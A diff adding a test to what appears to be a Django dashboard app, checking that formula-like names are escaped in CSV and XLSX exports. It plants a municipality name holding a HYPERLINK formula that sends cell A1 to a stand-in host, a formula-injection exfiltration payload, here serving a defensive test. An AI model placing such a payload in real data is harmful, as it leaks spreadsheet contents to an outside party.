@@ -340,3 +340,27 @@ def test_every_declared_chart_spec_is_a_chart_on_its_dashboard_in_order(caseload
             with translation.override("nl"):
                 title = escape(str(spec.title))
             assert f'id="chart-{spec.key}-title">{title}</h2>' in html, spec.key
+
+
+def test_downloaded_tables_never_carry_a_formula(caseload, persona):
+    """Security finding 9: a name from outside (here a municipality from an import) that starts
+    like a formula is written as text in CSV and XLSX."""
+    rogue = Municipality.objects.create(
+        cbs_code="GM9999",
+        name='=HYPERLINK("http://x.example/?"&A1,"Klik")',
+        region=Region.objects.get(code="twente"),
+    )
+    signal_create(reporter=None, source="police", description="Test.", municipality=rogue)
+    call_command("insight_refresh", stdout=io.StringIO())
+    _, analyst = persona("analyst")
+    response = analyst.get("/werk/inzicht/meldingen/signals-by-municipality.csv")
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + rogue.name in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+    response = analyst.get("/werk/inzicht/meldingen/signals-by-municipality.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    values = [c for row in sheet.iter_rows(values_only=True) for c in row if c is not None]
+    assert "'" + rogue.name in values
+    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
